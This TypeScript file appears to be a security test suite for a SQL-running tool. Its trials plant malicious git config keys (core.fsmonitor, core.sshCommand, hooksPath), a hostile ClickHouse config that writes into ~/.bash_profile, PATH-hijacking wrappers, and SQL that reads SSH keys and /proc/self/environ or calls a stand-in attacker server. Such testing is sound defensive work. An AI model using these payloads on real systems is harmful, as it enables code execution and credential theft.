import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ATTACKER, type Ended, type Trial, VICTIM, verdict, type World, why } from './world.js';

const SECRET = 'victim-pw-123';

// A program that says that it ran, and with what.
function program(world: World): { readonly path: string; readonly ran: () => boolean } {
  const mark = join(world.root, 'RAN');
  const path = world.put('program', `#!/bin/sh\nenv >> ${mark}\nfalse\n`, 0o755);
  return { path, ran: () => existsSync(mark) };
}

async function commit(world: World, prepare: (path: string) => string): Promise<ReturnType<typeof verdict>> {
  const { path, ran } = program(world);
  const server = await world.evil(undefined, true);
  const cwd = prepare(path);
  const env = { CLICKHOUSE_PASSWORD: SECRET };
  const ended = await world.qrun(['unit', 'sql', '--url', server.url], { cwd, env });
  return verdict(
    ran(),
    ran() ? `it ran, ${world.read('RAN').includes(SECRET) ? 'with' : 'without'} the password` : why(ended),
  );
}

// The current directory, the home and the machine: where the engine looks for a configuration of its own.
function foreignConfig(world: World, name: string, home: boolean): Trial['run'] {
  return async () => {
    const victim = world.home;
    world.give('home', VICTIM);
    const log = join(victim, '.bash_profile');
    const text = name.endsWith('.xml')
      ? `<clickhouse><path>${victim}/x-data/</path><logger><log>${log}</log><level>trace</level></logger></clickhouse>`
      : `path: ${victim}/x-data/\nlogger:\n  log: ${log}\n  level: trace\n`;
    const cwd = world.directory('shared', 0o1777);
    world.put(
      home ? `home/.clickhouse-local/${name}` : `shared/${name}`,
      text,
      0o644,
      home ? VICTIM : ATTACKER,
    );
    world.put('project/sql/q.sql', 'SELECT 1 AS a');
    world.give('project', VICTIM);
    const ended = await world.qrun(['unit', join(world.root, 'project/sql')], { cwd, user: VICTIM });
    const made = ['x-data', '.bash_profile'].filter(one => existsSync(join(victim, one)));
    return verdict(made.length > 0, made.length > 0 ? `made: ${made.join(', ')}` : why(ended));
  };
}

interface Statement {
  readonly name: string;
  readonly sql: (world: World, url: string) => string;
  readonly worked: (world: World, ended: Ended, told: string) => boolean;
  readonly prepare?: (world: World) => void;
}

const STATEMENTS: readonly Statement[] = [
  {
    name: 'reads a private key',
    prepare: world => void world.put('home/.ssh/id_ed25519', 'KEYKEYKEY\n', 0o600),
    sql: world => `SELECT * FROM file('${world.home}/.ssh/id_ed25519', 'LineAsString')`,
    worked: world => world.readAll('u/results').includes('KEYKEYKEY'),
  },
  {
    name: 'reads the environment',
    sql: () => `SELECT * FROM file('/proc/self/environ', 'LineAsString')`,
    worked: world => world.readAll('u/results').includes('ghp_victimtoken'),
  },
  {
    name: 'writes a file',
    sql: world =>
      `INSERT INTO FUNCTION file('${world.home}/.bashrc2', 'LineAsString', 'line String') VALUES ('touch pwn')`,
    worked: world => existsSync(join(world.home, '.bashrc2')),
  },
  {
    name: 'asks any server',
    sql: (_, url) => `SELECT * FROM url('${url}/secret', 'LineAsString')`,
    worked: (_, __, told) => told !== '',
  },
  {
    name: 'runs a program that the tree ships',
    prepare: world => {
      const { path } = program(world);
      void path;
      const text = `#!/bin/sh\nid >> ${join(world.root, 'RAN')}\necho 1\n`;
      for (const place of ['u/.qrun/data/user_scripts', 'u/user_scripts']) {
        mkdirSync(join(world.root, place), { recursive: true });
        writeFileSync(join(world.root, place, 'x.sh'), text, { mode: 0o755 });
      }
    },
    sql: () => `SELECT * FROM executable('x.sh', 'TSV', 'a String')`,
    worked: world => existsSync(join(world.root, 'RAN')),
  },
];

/** Code and SQL of somebody else. */
export const CODE: readonly Trial[] = [
  {
    name: 'a directory of a clone that is laid out as a bare repository runs a program',
    run: world =>
      commit(world, path => {
        const config = `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = ${path}\n`;
        return world.clone('clone', {
          'sql/q.sql': 'SELECT 1 AS a',
          'sql/HEAD': 'ref: refs/heads/main\n',
          'sql/config': config,
          'sql/objects/.keep': '',
          'sql/refs/heads/.keep': '',
        });
      }),
  },
  ...[
    'core.fsmonitor',
    'filter.x.clean',
    'core.pager',
    'core.sshCommand',
    'diff.external',
    'core.hooksPath',
  ].map(
    (key): Trial => ({
      name: `${key} in the .git/config of an unpacked archive runs a program`,
      run: world =>
        commit(world, path => {
          const cwd = world.clone('archive', {
            'sql/q.sql': 'SELECT 1 AS a',
            '.gitattributes': '*.sql filter=x diff=x\n',
          });
          const value = key === 'core.hooksPath' ? join(world.root, 'hooks') : path;
          for (const hook of ['post-index-change', 'reference-transaction', 'fsmonitor-watchman']) {
            world.put(`hooks/${hook}`, `#!/bin/sh\n${path}\n`, 0o755);
          }
          world.git('archive', 'config', key, value);
          world.put('archive/sql/q.sql', 'SELECT 1 AS a ');
          return cwd;
        }),
    }),
  ),
  ...['clickhouse-local.xml', 'clickhouse-local.yaml', 'clickhouse-local.yml', 'config.xml'].map(
    (name): Trial => ({
      name: `a ${name} of another user in the current directory moves data and logs of the embedded engine`,
      run: world => foreignConfig(world, name, false)(world),
    }),
  ),
  {
    name: 'a config.xml in ~/.clickhouse-local moves data and logs of the embedded engine',
    run: world => foreignConfig(world, 'config.xml', true)(world),
  },
  ...STATEMENTS.map(
    ({ name, sql, worked, prepare }): Trial => ({
      name: `SQL of a clone ${name}, on the embedded engine`,
      run: async world => {
        const evil = await world.evil();
        prepare?.(world);
        world.put('u/sql/q.sql', sql(world, evil.url));
        const env = { GITHUB_TOKEN: 'ghp_victimtoken' };
        const ended = await world.qrun(['unit', 'sql'], { cwd: join(world.root, 'u'), env });
        return verdict(worked(world, ended, evil.told()), why(ended));
      },
    }),
  ),
  {
    name: 'the programs that qrun starts get the password of the environment',
    run: async world => {
      const seen = join(world.root, 'SEEN');
      for (const name of ['git', 'mkfifo', 'flock', 'sh']) {
        world.put(
          `bin/${name}`,
          `#!/bin/dash\n{ /bin/echo "== ${name} $*"; /usr/bin/env; } >> ${seen}\nexec /usr/bin/${name} "$@"\n`,
          0o755,
        );
      }
      world.clone('clone', { 'sql/q.sql': 'SELECT 1 AS a' });
      const server = await world.evil(undefined, true);
      const env = { PATH: `${join(world.root, 'bin')}:${process.env.PATH}`, CLICKHOUSE_PASSWORD: SECRET };
      const cwd = join(world.root, 'clone');
      await world.run(['/bin/true'], { cwd });
      const ended = await world.qrun(['unit', 'sql', '--url', server.url], { cwd, env });
      const embedded = await world.qrun(['unit', 'sql', '--log', '../other.ndjson'], { cwd, env });
      // The shell that starts the command in these trials has it, as that of the victim would.
      const told = world.read('SEEN');
      if (told === '') return { state: 'left out', saw: `no program was started: ${why(ended)}` };
      const programs = told.split(/^== /m).slice(1);
      const got = programs.filter(text => text.includes(SECRET)).map(text => text.split('\n')[0]);
      return verdict(
        got.length > 0,
        got[0]?.slice(0, 100) ?? `${programs.length} programs; ${why(embedded)}`,
      );
    },
  },
];
